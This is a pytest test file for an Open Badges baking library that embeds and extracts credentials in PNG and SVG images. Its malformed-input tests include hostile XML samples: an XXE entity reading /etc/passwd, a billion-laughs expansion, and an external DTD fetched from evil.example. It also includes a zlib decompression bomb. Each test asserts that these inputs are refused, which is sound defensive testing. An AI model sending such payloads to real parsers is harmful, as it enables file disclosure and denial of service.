"""Baking and unbaking PNG and SVG badges, against the 1EdTech baked fixtures, with bad twins."""
from __future__ import annotations

import base64
import json
import struct
import zlib

import pytest

from badges.bake import (
    KEYWORD,
    MAX_CREDENTIAL_BYTES,
    OB_NAMESPACE,
    PNG_SIGNATURE,
    bake_png,
    bake_svg,
    unbake,
    unbake_png,
    unbake_svg,
)
from badges.errors import BakeError

BAKED = "examples/baked/"
JWS_FILE = "examples/ob3-vcjwt-rs256-jwk.jws"
OWN_JSON = json.dumps({"@context": ["https://www.w3.org/ns/credentials/v2"], "id": "urn:uuid:own",
                       "type": ["VerifiableCredential", "OpenBadgeCredential"], "name": "Café ✓"})
OWN_JWS = "eyJhbGciOiJFZERTQSJ9.eyJqdGkiOiJ1cm46dXVpZDpvd24ifQ.c2lnbmF0dXJl"


def _read(reference, name: str) -> bytes:
    return (reference / BAKED / name).read_bytes()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png(*extra: bytes) -> bytes:
    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00\x00")
    return PNG_SIGNATURE + _chunk(b"IHDR", ihdr) + b"".join(extra) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


def _itxt(text: bytes, *, flag: int = 0) -> bytes:
    return _chunk(b"iTXt", KEYWORD + b"\0" + bytes([flag, 0]) + b"\0\0" + text)


def _chunks(png: bytes) -> list[tuple[bytes, bytes]]:
    out, pos = [], 8
    while pos < len(png):
        (n,) = struct.unpack_from(">I", png, pos)
        out.append((png[pos + 4:pos + 8], png[pos + 8:pos + 8 + n]))
        pos += 12 + n
    return out


def _jws_payload(token: str) -> dict:
    part = token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


# ---- the 1EdTech fixtures

def test_fixture_json_png_and_svg_carry_the_same_signed_credential(reference):
    png = json.loads(unbake(_read(reference, "ob3-baked-json.png")))
    svg = json.loads(unbake(_read(reference, "ob3-baked-json.svg")))
    assert png == svg
    assert "OpenBadgeCredential" in png["type"] and png["proof"][0]["cryptosuite"] == "eddsa-rdfc-2022"


def test_fixture_jwt_png_is_the_published_jws(reference):
    expected = (reference / JWS_FILE).read_text().strip()
    assert unbake(_read(reference, "ob3-baked-vcjwt.png")) == expected


def test_fixture_jwt_svg_reads_the_verify_attribute(reference):
    # The SVG carries its own RS256 token (another key) for the same credential as the PNG.
    token = unbake(_read(reference, "ob3-baked-vcjwt.svg"))
    png_token = unbake(_read(reference, "ob3-baked-vcjwt.png"))
    assert token.count(".") == 2 and token != png_token
    assert _jws_payload(token)["jti"] == _jws_payload(png_token)["jti"] == "http://example.com/credentials/3527"


@pytest.mark.parametrize("name", ["ob3-baked-json.png", "ob3-baked-vcjwt.png"])
@pytest.mark.parametrize("payload", [OWN_JSON, OWN_JWS])
def test_rebake_fixture_png(reference, name, payload):
    original = _read(reference, name)
    baked = bake_png(original, payload)
    assert unbake(baked) == payload
    kinds = [k for k, _ in _chunks(baked)]
    assert kinds[:2] == [b"IHDR", b"iTXt"]
    credential_chunks = [d for k, d in _chunks(baked) if k == b"iTXt" and d.startswith(KEYWORD + b"\0")]
    assert len(credential_chunks) == 1
    assert credential_chunks[0] == KEYWORD + b"\0\0\0\0\0" + payload.encode()
    # every other chunk survives byte for byte
    others = [c for c in _chunks(original) if not (c[0] == b"iTXt" and c[1].startswith(KEYWORD))]
    assert [c for c in _chunks(baked) if c[1] != credential_chunks[0]] == others


@pytest.mark.parametrize("name", ["ob3-baked-json.svg", "ob3-baked-vcjwt.svg"])
@pytest.mark.parametrize("payload", [OWN_JSON, OWN_JWS])
def test_rebake_fixture_svg(reference, name, payload):
    baked = bake_svg(_read(reference, name), payload)
    assert unbake(baked) == payload
    text = baked.decode()
    assert text.count("<openbadges:credential") == 1
    assert text.count('xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"') == 1
    assert "<!DOCTYPE svg PUBLIC" in text  # the rest of the file is untouched
    root_end = text.index(">", text.index("<svg ")) + 1
    assert text[root_end:].startswith("<openbadges:credential")


# ---- PNG

def test_bake_png_from_scratch_and_rebake_replaces():
    once = bake_png(_png(), OWN_JSON)
    twice = bake_png(once, OWN_JWS)
    assert unbake_png(twice) == OWN_JWS
    assert sum(1 for k, d in _chunks(twice) if d.startswith(KEYWORD + b"\0")) == 1
    assert bake_png(twice, OWN_JSON) == once  # deterministic, no residue


def test_two_credential_chunks_on_input_read_the_first_and_bake_leaves_one():
    png = _png(_itxt(b'{"id": "first"}'), _itxt(b'{"id": "second"}'))
    assert json.loads(unbake_png(png)) == {"id": "first"}
    rebaked = bake_png(png, OWN_JSON)
    assert sum(1 for _, d in _chunks(rebaked) if d.startswith(KEYWORD + b"\0")) == 1


def test_compressed_itxt_is_read():
    png = _png(_itxt(zlib.compress(OWN_JSON.encode()), flag=1))
    assert unbake_png(png) == OWN_JSON


def test_compressed_itxt_bomb_is_refused():
    png = _png(_itxt(zlib.compress(b" " * (MAX_CREDENTIAL_BYTES + 10)), flag=1))
    with pytest.raises(BakeError, match="inflates"):
        unbake_png(png)


def test_other_text_chunks_are_not_credentials():
    png = _png(_chunk(b"tEXt", b"Comment\0hello"), _chunk(b"iTXt", b"openbadgecredentialX\0\0\0\0\0{}"))
    with pytest.raises(BakeError, match="no openbadgecredential"):
        unbake_png(png)


def test_png_without_credential():
    with pytest.raises(BakeError, match="no openbadgecredential"):
        unbake(_png())


def test_truncated_png(reference):
    data = _read(reference, "ob3-baked-json.png")
    for cut in (len(data) - 5, 40, 9):
        with pytest.raises(BakeError, match="truncated"):
            unbake_png(data[:cut])


def test_bad_crc(reference):
    data = bytearray(_read(reference, "ob3-baked-json.png"))
    data[20] ^= 0xFF  # inside the IHDR body (the width)
    with pytest.raises(BakeError, match="CRC"):
        unbake_png(bytes(data))
    with pytest.raises(BakeError, match="CRC"):
        bake_png(bytes(data), OWN_JSON)


def test_png_must_start_with_ihdr():
    bad = PNG_SIGNATURE + _chunk(b"IDAT", b"") + _chunk(b"IEND", b"")
    with pytest.raises(BakeError, match="IHDR"):
        unbake_png(bad)


def test_malformed_itxt():
    with pytest.raises(BakeError, match="malformed"):
        unbake_png(_png(_chunk(b"iTXt", KEYWORD + b"\0\0")))
    with pytest.raises(BakeError, match="UTF-8"):
        unbake_png(_png(_itxt(b"\xff\xfe")))


@pytest.mark.parametrize("payload", ["", "not json", "[1, 2]", "a.b", '{"x": "\x00"}', "{\"x\": \"\ud800\"}"])
def test_bad_payloads_are_refused(payload):
    with pytest.raises(BakeError):
        bake_png(_png(), payload)
    with pytest.raises(BakeError):
        bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg"/>', payload)


def test_oversized_payload_is_refused():
    with pytest.raises(BakeError, match="larger"):
        bake_png(_png(), json.dumps({"x": "a" * MAX_CREDENTIAL_BYTES}))


# ---- SVG

SIMPLE = b'<?xml version="1.0"?>\n<!-- hi > there -->\n<svg xmlns="http://www.w3.org/2000/svg" data-x="a>b"><g/></svg>\n'


def test_bake_svg_json_with_cdata_terminator_round_trips():
    payload = json.dumps({"id": "urn:x", "name": "tricky ]]> value"})
    baked = bake_svg(SIMPLE, payload)
    assert unbake_svg(baked) == payload
    assert baked.startswith(b'<?xml version="1.0"?>\n<!-- hi > there -->\n<svg xmlns:openbadges=')
    assert baked.endswith(b'data-x="a>b"><openbadges:credential><![CDATA[{"id": "urn:x", "name": "tricky ]]]]>'
                          b'<![CDATA[> value"}]]></openbadges:credential><g/></svg>\n')


def test_bake_svg_jws_is_an_attribute_and_rebake_replaces():
    once = bake_svg(SIMPLE, OWN_JWS)
    assert f'<openbadges:credential verify="{OWN_JWS}"></openbadges:credential><g/>'.encode() in once
    twice = bake_svg(once, OWN_JSON)
    assert unbake_svg(twice) == OWN_JSON
    assert twice.count(b"<openbadges:credential") == 1 and twice.count(b"xmlns:openbadges") == 1
    assert bake_svg(twice, OWN_JWS) == once


def test_self_closing_root_is_opened():
    baked = bake_svg(b'<svg xmlns="http://www.w3.org/2000/svg" width="1"/>', OWN_JWS)
    assert baked.endswith(b'></openbadges:credential></svg>')
    assert unbake(baked) == OWN_JWS


def test_credential_with_other_prefix_is_found_and_replaced():
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ob="{OB_NAMESPACE}">'
           f'<ob:credential verify="{OWN_JWS}"/><ob:credential>{{"id": "second"}}</ob:credential></svg>').encode()
    assert unbake_svg(svg) == OWN_JWS
    rebaked = bake_svg(svg, OWN_JSON)
    assert b"<ob:credential" not in rebaked and unbake_svg(rebaked) == OWN_JSON


def test_conflicting_prefix_is_refused():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="urn:other"/>'
    with pytest.raises(BakeError, match="prefix"):
        bake_svg(svg, OWN_JWS)


def test_svg_without_credential():
    with pytest.raises(BakeError, match="no openbadges:credential"):
        unbake(SIMPLE)


def test_wrong_namespace_element_is_not_a_credential():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:o="urn:x"><o:credential verify="a.b.c"/></svg>'
    with pytest.raises(BakeError, match="no openbadges:credential"):
        unbake_svg(svg)


def test_empty_credential_element():
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="{OB_NAMESPACE}"><openbadges:credential/></svg>'
    with pytest.raises(BakeError, match="empty"):
        unbake_svg(svg.encode())


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol2;</text></svg>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""
PARAM = b"""<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><svg/>"""


@pytest.mark.parametrize("svg", [BILLION_LAUGHS, XXE, PARAM])
def test_dtd_tricks_are_refused(svg):
    with pytest.raises(BakeError, match="DTD|entit"):
        unbake(svg)
    with pytest.raises(BakeError):
        bake_svg(svg, OWN_JWS)


@pytest.mark.parametrize("svg", [
    b"<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",        # not well-formed
    b"<html><body/></html>",                                        # not an SVG
    b'<?xml version="1.0" encoding="ISO-8859-1"?><svg/>',   # not UTF-8 declared
    "<svg>\u00e9</svg>".encode("utf-16"),                           # not UTF-8 bytes
])
def test_bad_svgs(svg):
    with pytest.raises(BakeError):
        unbake_svg(svg)


def test_not_an_image():
    for data in (b"", b"GIF89a....", b"\x89PNG\r\n"):
        with pytest.raises(BakeError):
            unbake(data)
    with pytest.raises(TypeError):
        unbake("not bytes")  # type: ignore[arg-type]


def test_public_names():
    import badges.bake
    assert sorted(badges.bake.__all__) == [
        "KEYWORD", "MAX_CREDENTIAL_BYTES", "MAX_IMAGE_BYTES", "OB_NAMESPACE",
        "bake_png", "bake_svg", "unbake", "unbake_png", "unbake_svg"]
